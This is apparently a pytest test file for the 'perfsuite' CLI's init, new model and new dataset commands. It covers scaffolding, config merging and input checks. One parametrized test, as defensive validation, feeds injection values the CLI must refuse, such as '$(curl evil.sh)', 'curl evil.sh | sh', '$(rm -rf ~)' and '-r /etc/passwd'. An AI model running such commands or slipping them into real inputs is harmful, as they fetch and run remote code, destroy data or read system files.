"""`perfsuite init`, `perfsuite new model`, `perfsuite new dataset`: what they write, keep, merge and refuse.

Everything runs through the CLI's `main` in a tmp folder (init with --no-check; its smoke check and
the whole flow run end to end in tests/test_scaffold_e2e.py).
"""

from __future__ import annotations

import configparser
import json
import os
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
import yaml

from perfsuite.cli import main

from conftest import REPO

INIT_FILES = ("conf/suite/project.yaml", "benches/test_latency.py", ".github/workflows/perf.yml", "Dockerfile.perf", ".gitignore")


def _snapshot(tmp: Path) -> dict[str, str]:
    return {str(p.relative_to(tmp)): p.read_text() for p in sorted(tmp.rglob("*")) if p.is_file()}


# -- perfsuite init ---------------------------------------------------------------------------------


def test_init_writes_a_project_and_a_second_run_changes_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["init", str(tmp_path), "--no-check"]) == 0
    for rel in INIT_FILES:
        assert (tmp_path / rel).is_file(), rel
    ini = configparser.ConfigParser()
    ini.read(tmp_path / "pytest.ini")
    assert ini["pytest"]["perf_benches"] == "benches" and ini["pytest"]["perf_out_dir"] == "out"
    suite = yaml.safe_load((tmp_path / "conf/suite/project.yaml").read_text())
    assert suite["name"] == "project" and suite["models"] and suite["datasets"]
    compile((tmp_path / "benches/test_latency.py").read_text(), "test_latency.py", "exec")
    assert "out/" in (tmp_path / ".gitignore").read_text().splitlines()
    out = capsys.readouterr().out
    assert "pytest benches --perf-conf-dir conf --perf-suite project" in out

    before = _snapshot(tmp_path)
    assert main(["init", str(tmp_path), "--no-check"]) == 0
    assert "nothing to change" in capsys.readouterr().out
    assert _snapshot(tmp_path) == before


def test_init_workflow_gates_against_main_on_a_labelled_runner(tmp_path: Path) -> None:
    assert main(["init", str(tmp_path), "--no-check", "--runner-label", "gpu-a100", "--device", "cuda", "--suite", "mine"]) == 0
    flow = yaml.safe_load((tmp_path / ".github/workflows/perf.yml").read_text())
    job = flow["jobs"]["benchmark"]
    assert job["runs-on"] == ["self-hosted", "gpu-a100"]
    assert flow[True]["push"]["branches"] == ["main"] and "pull_request" in flow[True]  # YAML 1.1 reads `on:` as True
    runs = "\n".join(step.get("run", "") for step in job["steps"])
    uses = [step.get("uses", "") for step in job["steps"]]
    assert "--perf-baseline-save main" in runs and "--perf-compare main --perf-gate" in runs
    assert "--perf-suite mine --perf-device cuda" in job["env"]["PERF_ARGS"]
    assert "GITHUB_STEP_SUMMARY" in runs and "download.pytorch.org/whl/cu126" in runs and 'pip install "$PERFSUITE_REQUIREMENT"' in runs
    install = next(step for step in job["steps"] if step.get("name") == "Install perfsuite")
    assert install["env"]["PERFSUITE_REQUIREMENT"].startswith("perfsuite[cuda]==")
    assert any(u.startswith("actions/upload-artifact@") for u in uses)
    assert any(u.startswith("actions/cache/restore@") for u in uses) and any(u.startswith("actions/cache/save@") for u in uses)
    docker = (tmp_path / "Dockerfile.perf").read_text()
    assert "FROM ${CUDA_IMAGE}" in docker and "ARG CUDA_IMAGE=nvidia/cuda:" in docker
    assert "pip install torch --index-url" in docker and "whl/cu126" in docker and 'pip install "${PERFSUITE}"' in docker
    assert '"--perf-suite", "mine", "--perf-device", "cuda"' in docker


def test_init_dry_run_writes_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    project = tmp_path / "p"
    assert main(["init", str(project), "--dry-run"]) == 0
    out = capsys.readouterr().out
    assert "dry run" in out and "create conf/suite/project.yaml" in out.replace(str(project) + "/", "")
    assert not project.exists()


def test_init_with_a_conflicting_file_writes_nothing_and_force_keeps_the_old_one(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    mine = tmp_path / "Dockerfile.perf"
    mine.write_text("FROM my-own-image\n")
    assert main(["init", str(tmp_path), "--no-check"]) == 1
    out = capsys.readouterr().out
    assert "Dockerfile.perf already exists and differs" in out and "--force" in out and "nothing was written" in out
    assert sorted(p.name for p in tmp_path.iterdir()) == ["Dockerfile.perf"] and mine.read_text() == "FROM my-own-image\n"

    assert main(["init", str(tmp_path), "--no-check", "--force"]) == 0
    assert (tmp_path / "Dockerfile.perf.bak").read_text() == "FROM my-own-image\n"
    assert "nvidia/cuda" in mine.read_text()


def test_init_refuses_a_file_as_folder_and_bad_layout_options(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "benches").write_text("not a folder")
    assert main(["init", str(tmp_path), "--no-check"]) == 1
    assert "benches is a file where a folder is needed" in capsys.readouterr().out
    assert main(["init", str(tmp_path), "--no-check", "--conf-dir", "../elsewhere"]) == 2
    assert main(["init", str(tmp_path), "--no-check", "--suite", "smoke"]) == 2  # would shadow the built-in suite
    err = capsys.readouterr().err
    assert "--conf-dir" in err and "taken by perfsuite's built-in config tree" in err


def test_init_into_a_conf_folder_with_a_config_yaml_writes_nothing_and_says_why(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The project's own Hydra app keeps conf/config.yaml: perfsuite's presets there would make every run fail."""
    (tmp_path / "conf").mkdir()
    (tmp_path / "conf" / "config.yaml").write_text("defaults: [db: mysql]\n")
    assert main(["init", str(tmp_path), "--no-check"]) == 2
    err = capsys.readouterr().err
    assert "conf/config.yaml exists" in err and "--conf-dir perf_conf" in err and "nothing was written" in err
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["conf", "config.yaml"]
    # and a run given such a folder says it before composing anything
    from perfsuite.config.sources import ConfSources
    from perfsuite.errors import PerfConfigError

    with pytest.raises(PerfConfigError, match="would replace perfsuite's own primary config"):
        ConfSources.create((tmp_path / "conf",))
    assert main(["init", str(tmp_path), "--no-check", "--conf-dir", "perf_conf"]) == 0  # beside it, init works


@pytest.mark.parametrize("option, value", [
    ("--runner-label", "perf\nruns-on: ubuntu-latest"),
    ("--runner-label", 'perf"]'),
    ("--runner-label", "$(curl evil.sh)"),
    ("--main-branch", "main\n  pull_request_target:"),
    ("--main-branch", "main $(rm -rf ~)"),
    ("--main-branch", "../x"),
    ("--requirement", 'perfsuite"; curl evil.sh | sh; echo "'),
    ("--requirement", "perfsuite==$(id)"),
    ("--requirement", "perfsuite\nRUN curl evil.sh"),
    ("--requirement", "-r /etc/passwd"),
    ("--requirement", "not a requirement !"),
])
def test_init_refuses_values_that_would_break_or_inject_into_the_workflow(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                                          option: str, value: str) -> None:
    assert main(["init", str(tmp_path), "--no-check", option, value]) == 2
    err = capsys.readouterr().err
    assert option in err and "Traceback" not in err
    assert list(tmp_path.iterdir()) == []  # nothing written


@pytest.mark.parametrize("requirement", ["perfsuite[cuda]>=0.1", "perfsuite @ git+https://github.com/o/perfsuite@v0.1",
                                         "./dist/perfsuite-0.1.0-py3-none-any.whl", "https://example.com/perfsuite-0.1.0-py3-none-any.whl"])
def test_init_writes_a_workflow_that_parses_and_installs_the_requirement_from_env(tmp_path: Path, requirement: str) -> None:
    assert main(["init", str(tmp_path), "--no-check", "--requirement", requirement, "--main-branch", "release/2.x",
                 "--runner-label", "gpu-a100.1"]) == 0
    flow = yaml.safe_load((tmp_path / ".github" / "workflows" / "perf.yml").read_text())
    install = next(s for s in flow["jobs"]["benchmark"]["steps"] if s.get("name") == "Install perfsuite")
    assert install["env"]["PERFSUITE_REQUIREMENT"] == requirement and requirement not in install["run"]
    assert flow[True]["push"]["branches"] == ["release/2.x"] and flow["jobs"]["benchmark"]["runs-on"] == ["self-hosted", "gpu-a100.1"]


PYPROJECT = """\
[project]
name = "theirs"   # keep this comment

[tool.pytest.ini_options]
testpaths = ["tests"]
addopts = "-ra"

[tool.ruff]
line-length = 100
"""


def test_init_merges_the_keys_into_an_existing_pyproject(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(PYPROJECT)
    assert main(["init", str(tmp_path), "--no-check"]) == 0
    text = (tmp_path / "pyproject.toml").read_text()
    assert not (tmp_path / "pytest.ini").exists()  # it would switch the pyproject settings off
    for line in PYPROJECT.splitlines():
        assert line in text.splitlines()  # every line of the user's file kept
    options = tomllib.loads(text)["tool"]["pytest"]["ini_options"]
    assert options == {"testpaths": ["tests"], "addopts": "-ra", "perf_benches": ["benches"], "perf_out_dir": "out"}
    assert main(["init", str(tmp_path), "--no-check"]) == 0
    assert (tmp_path / "pyproject.toml").read_text() == text


def test_init_appends_a_pytest_table_to_a_pyproject_without_one(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "theirs"\n')
    assert main(["init", str(tmp_path), "--no-check"]) == 0
    data = tomllib.loads((tmp_path / "pyproject.toml").read_text())
    assert data["project"] == {"name": "theirs"} and data["tool"]["pytest"]["ini_options"]["perf_out_dir"] == "out"


@pytest.mark.parametrize(("name", "section"), [("pytest.ini", "pytest"), ("setup.cfg", "tool:pytest"), ("tox.ini", "pytest")])
def test_init_merges_into_the_ini_file_pytest_reads(tmp_path: Path, name: str, section: str) -> None:
    (tmp_path / name).write_text(f"[metadata]\nname = x\n\n[{section}]\n; theirs\nmarkers = slow\n")
    assert main(["init", str(tmp_path), "--no-check"]) == 0
    ini = configparser.ConfigParser()
    ini.read(tmp_path / name)
    assert dict(ini[section]) == {"markers": "slow", "perf_benches": "benches", "perf_out_dir": "out"}
    assert ini["metadata"]["name"] == "x" and "; theirs" in (tmp_path / name).read_text()


def test_init_reports_a_conflicting_pytest_key_and_writes_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "pytest.ini").write_text("[pytest]\nperf_out_dir = results\n")
    assert main(["init", str(tmp_path), "--no-check", "--force"]) == 1  # --force never edits the user's settings
    out = capsys.readouterr().out
    assert "perf_out_dir = 'results'" in out and "change it by hand" in out
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pytest.ini"]


def test_init_reports_an_unparsable_pyproject(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "pyproject.toml").write_text("[project\nname = 1\n")
    assert main(["init", str(tmp_path), "--no-check"]) == 1
    assert "pyproject.toml: cannot be parsed" in capsys.readouterr().out
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pyproject.toml"]


def test_init_appends_only_the_missing_gitignore_lines(tmp_path: Path) -> None:
    (tmp_path / ".gitignore").write_text("*.pyc\nout/")  # no newline at the end
    assert main(["init", str(tmp_path), "--no-check"]) == 0
    lines = (tmp_path / ".gitignore").read_text().splitlines()
    assert lines[:2] == ["*.pyc", "out/"] and lines.count("out/") == 1 and "datasets/*/source-data" in lines


# -- perfsuite new model ----------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["../x", "a.b", "my model", "1st", "", "x" * 65])
def test_new_rejects_unsafe_names(tmp_path: Path, name: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["new", "model", name, "--family", "bert.tiny", "--project", str(tmp_path)]) == 2
    assert main(["new", "dataset", name, "--from", str(tmp_path), "--project", str(tmp_path)]) == 2
    assert capsys.readouterr().err.count("not a safe identifier") == 2
    assert list(tmp_path.iterdir()) == []


def test_new_rejects_names_of_built_in_models_and_datasets(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["new", "model", "gpt2", "--family", "bert.tiny", "--project", str(tmp_path)]) == 2
    assert main(["new", "dataset", "pydoc", "--from", str(tmp_path), "--project", str(tmp_path)]) == 2
    assert capsys.readouterr().err.count("would shadow it") == 2


def test_new_model_without_config_json_says_what_is_supported(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "snap").mkdir()
    assert main(["new", "model", "mine", "--from", str(tmp_path / "snap"), "--project", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert "has no config.json, so it is not a Hugging Face model snapshot" in err
    assert "--family" in err and "gpt2.tiny" in err and "adapter: local" in err
    assert not (tmp_path / "conf").exists()


def test_new_model_from_a_hub_cache_entry_uses_its_snapshot_and_needs_weights(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    repo = tmp_path / "models--org--tiny"
    snap = repo / "snapshots" / "abc123"
    snap.mkdir(parents=True)
    (repo / "refs").mkdir()
    (repo / "refs" / "main").write_text("abc123")
    (snap / "config.json").write_text(json.dumps({"model_type": "bert", "vocab_size": 64}))
    assert main(["new", "model", "mine", "--from", str(repo), "--project", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert f"{snap} has config.json but no weights" in err and "--family" in err


def test_new_model_with_an_unknown_architecture_names_the_families_and_local(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    snap = tmp_path / "snap"
    snap.mkdir()
    (snap / "config.json").write_text(json.dumps({"model_type": "frobnicator", "architectures": ["FrobModel"], "auto_map": {"AutoModel": "x.Frob"}}))
    (snap / "model.safetensors").write_bytes(b"weights")
    assert main(["new", "model", "mine", "--from", str(snap), "--project", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert "unknown architecture: model_type 'frobnicator'" in err and "FrobModel" in err
    assert "never runs code from a snapshot" in err and "bert.tiny" in err and "`local`" in err
    assert not (tmp_path / "conf").exists()


def test_a_path_with_a_line_break_writes_no_yaml_it_would_inject_into(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A snapshot folder named 'snap\nadapter: evil' would have started a YAML line of its own in the written preset."""
    snap = tmp_path / "snap\nadapter: evil"
    snap.mkdir()
    (snap / "config.json").write_text(json.dumps({"model_type": "bert", "architectures": ["BertModel"], "num_hidden_layers": 1,
                                                   "hidden_size": 32, "max_position_embeddings": 64, "vocab_size": 100}))
    (snap / "model.safetensors").write_bytes(b"weights")
    assert main(["new", "model", "mine", "--from", str(snap), "--project", str(tmp_path), "--no-validate"]) == 2
    err = capsys.readouterr().err
    assert "has a line break, which cannot go into a generated file; nothing was written" in err
    assert not (tmp_path / "conf").exists()
    (tmp_path / "data\nroot: elsewhere").mkdir()
    (tmp_path / "data\nroot: elsewhere" / "a.txt").write_text("some text to benchmark\n" * 20)
    assert main(["new", "dataset", "notes", "--from", str(tmp_path / "data\nroot: elsewhere"), "--project", str(tmp_path)]) == 2
    assert "has a line break" in capsys.readouterr().err and not (tmp_path / "conf").exists() and not (tmp_path / "datasets").exists()


def test_new_model_unknown_family_lists_the_presets(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["new", "model", "mine", "--family", "falcon", "--project", str(tmp_path)]) == 2
    assert main(["new", "model", "mine", "--family", "local", "--project", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert "unknown model family (got 'falcon')" in err and "gpt2.tiny" in err and "use --from /path/to/snapshot" in err


def test_new_model_from_a_family_preset_is_validated_and_written(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["init", str(tmp_path), "--no-check"]) == 0
    capsys.readouterr()
    assert main(["new", "model", "tinygpt", "--family", "gpt2.tiny", "--project", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    base = tmp_path / "conf/model/tinygpt"
    arch = yaml.safe_load((base / "arch/tinygpt.default.yaml").read_text())
    assert arch["adapter"] == "gpt2" and arch["config"]["n_layer"] == 2
    assert yaml.safe_load((base / "infer/tinygpt.default.yaml").read_text())["max_new_tokens"] == 16
    assert "sort_by: cpu_time_total" in (base / "output/torch/default.yaml").read_text()  # gpt2's own overlay
    assert "ok: text model" in out and "parameters, built and called" in out
    assert "pytest benches --perf-conf-dir conf --perf-suite project --perf-override model=tinygpt --perf-override dataset=pydoc" in out

    before = _snapshot(tmp_path)
    (base / "infer/tinygpt.default.yaml").write_text("batch_sizes: [8]\n")
    assert main(["new", "model", "tinygpt", "--family", "bert.tiny", "--project", str(tmp_path)]) == 1
    assert "already exists and differs" in capsys.readouterr().out
    assert (base / "infer/tinygpt.default.yaml").read_text() == "batch_sizes: [8]\n"
    assert yaml.safe_load((base / "arch/tinygpt.default.yaml").read_text())["adapter"] == "gpt2"  # nothing written
    assert set(_snapshot(tmp_path)) == set(before)


def test_new_model_from_an_image_snapshot_reads_its_image_size(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from transformers import ViTConfig, ViTModel

    snap = tmp_path / "vit"
    ViTModel(ViTConfig(image_size=32, patch_size=8, hidden_size=32, num_hidden_layers=1, num_attention_heads=2, intermediate_size=64)).save_pretrained(snap)
    (snap / "preprocessor_config.json").write_text(json.dumps({"image_mean": [0.5, 0.5, 0.5], "image_std": [0.5, 0.5, 0.5], "size": {"height": 32, "width": 32}}))
    assert main(["new", "model", "myvit", "--from", str(snap), "--project", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    arch = yaml.safe_load((tmp_path / "conf/model/myvit/arch/myvit.default.yaml").read_text())
    assert arch["adapter"] == "local" and arch["modality"] == "image" and arch["path"] == "vit"  # inside the project: relative
    assert arch["preprocess"] == {"image_size": 32, "resize": 32, "mean": [0.5, 0.5, 0.5], "std": [0.5, 0.5, 0.5]}
    assert yaml.safe_load((tmp_path / "conf/model/myvit/infer/myvit.default.yaml").read_text())["seq_len"] == 0
    assert "model_type vit" in out and "ok: image model" in out and "dataset=sample_images" in out


def test_new_model_that_fails_validation_writes_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    snap = tmp_path / "broken"
    snap.mkdir()
    (snap / "config.json").write_text(json.dumps({"model_type": "bert", "vocab_size": 64, "hidden_size": 32, "num_hidden_layers": 1,
                                                   "num_attention_heads": 2, "intermediate_size": 64}))
    (snap / "model.safetensors").write_bytes(b"not safetensors")
    assert main(["new", "model", "broken", "--from", str(snap), "--project", str(tmp_path)]) == 2
    assert "cannot load the model snapshot" in capsys.readouterr().err
    assert not (tmp_path / "conf").exists()


# -- perfsuite new dataset --------------------------------------------------------------------------


def _texts(folder: Path) -> Path:
    folder.mkdir(parents=True)
    (folder / "a.txt").write_text("First paragraph here.\n\nSecond one, a bit longer than the first.\n")
    (folder / "sub").mkdir()
    (folder / "sub" / "b.jsonl").write_text(json.dumps({"text": "a record"}) + "\n\n" + json.dumps({"text": "another record"}) + "\n")
    (folder / ".hidden.txt").write_text("not read\n")
    return folder


def test_new_dataset_writes_the_bootstrap_layout_and_links_the_data(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = _texts(tmp_path / "data")
    project = tmp_path / "project"
    assert main(["init", str(project), "--no-check"]) == 0
    capsys.readouterr()
    assert main(["new", "dataset", "notes", "--from", str(data), "--project", str(project)]) == 0
    out = capsys.readouterr().out
    folder = project / "datasets/notes"
    assert sorted(p.name for p in folder.iterdir()) == ["README.md", "bootstrap.sh", "bootstrap.yaml", "metadata.yaml", "source-data"]
    assert (folder / "source-data").resolve() == data.resolve() and os.access(folder / "bootstrap.sh", os.X_OK)
    meta = yaml.safe_load((folder / "metadata.yaml").read_text())
    assert meta["modality"] == "text" and meta["counts"]["files"] == 2 and meta["counts"]["samples"] == 4
    assert meta["bootstrap"]["root_env"] == "NOTES_ROOT" and meta["bootstrap"]["default_root"] == str(data.resolve())
    boot = yaml.safe_load((folder / "bootstrap.yaml").read_text())
    assert boot == {"root_env": "NOTES_ROOT", "default_root": str(data.resolve()), "source_subdir": ".", "repo_link_name": "source-data"}
    conf = yaml.safe_load((project / "conf/dataset/notes.yaml").read_text())
    assert conf["adapter"] == "text" and conf["root"] == "datasets/notes/source-data" and conf["files"] == ["**/*.jsonl", "**/*.txt"]
    assert "4 samples load as a run would read them" in out and "model=bert.tiny --perf-override dataset=notes" in out
    before = _snapshot(project)
    assert main(["new", "dataset", "notes", "--from", str(data), "--project", str(project)]) == 0  # again: nothing changes
    assert "nothing to change" in capsys.readouterr().out and _snapshot(project) == before

    # its bootstrap.sh finds perfsuite and sees the link in place
    env = {**os.environ, "PERFSUITE_PYTHON": sys.executable, "PYTHONPATH": str(REPO)}
    done = subprocess.run(["bash", str(folder / "bootstrap.sh"), "--dry-run"], env=env, capture_output=True, text=True, cwd=tmp_path)
    assert done.returncode == 0 and "keep" in done.stdout and "all in place" in done.stdout, done.stdout + done.stderr


def test_new_dataset_of_images_records_their_sizes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import numpy as np
    from PIL import Image

    data = tmp_path / "imgs"
    data.mkdir()
    for i, size in enumerate([(40, 30), (40, 30), (64, 64)]):
        Image.new("RGB", size, (i * 40, 0, 0)).save(data / f"img{i}.png")
    np.savez(data / "stack.npz", gray=np.zeros((5, 30, 40), dtype=np.uint8), rgb=np.zeros((16, 16, 3), dtype=np.uint8))
    assert main(["new", "dataset", "pics", "--from", str(data), "--project", str(tmp_path / "p")]) == 0
    meta = yaml.safe_load((tmp_path / "p/datasets/pics/metadata.yaml").read_text())
    assert meta["modality"] == "image" and meta["counts"]["images"] == 9
    assert meta["counts"]["sizes"] == {"40x30": 7, "64x64": 1, "16x16": 1}
    conf = yaml.safe_load((tmp_path / "p/conf/dataset/pics.yaml").read_text())
    assert conf["adapter"] == "images" and conf["files"] == ["**/*.npz", "**/*.png"]
    assert "model=resnet50.tiny --perf-override dataset=pics" in capsys.readouterr().out


def test_new_dataset_bad_folders(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    project = tmp_path / "p"
    empty = tmp_path / "csvs"
    empty.mkdir()
    (empty / "t.csv").write_text("a,b\n")
    mixed = _texts(tmp_path / "mixed")
    (mixed / "x.png").write_bytes(b"\x89PNG")
    latin = tmp_path / "latin"
    latin.mkdir()
    (latin / "x.txt").write_bytes("caf\xe9\n".encode("latin-1"))
    assert main(["new", "dataset", "d", "--from", str(tmp_path / "missing"), "--project", str(project)]) == 2
    assert main(["new", "dataset", "d", "--from", str(empty), "--project", str(project)]) == 2
    assert main(["new", "dataset", "d", "--from", str(mixed), "--project", str(project)]) == 2
    assert main(["new", "dataset", "d", "--from", str(latin), "--project", str(project)]) == 2
    err = capsys.readouterr().err
    assert "the data folder does not exist" in err
    assert "holds no file perfsuite can read (.csv x1)" in err and ".jsonl" in err
    assert "holds both text (2 files) and image files (1)" in err and "--kind" in err
    assert "is not UTF-8 text" in err
    assert not project.exists()
    assert main(["new", "dataset", "d", "--from", str(mixed), "--kind", "text", "--project", str(project), "--dry-run"]) == 0
    assert not (project / "datasets").exists()
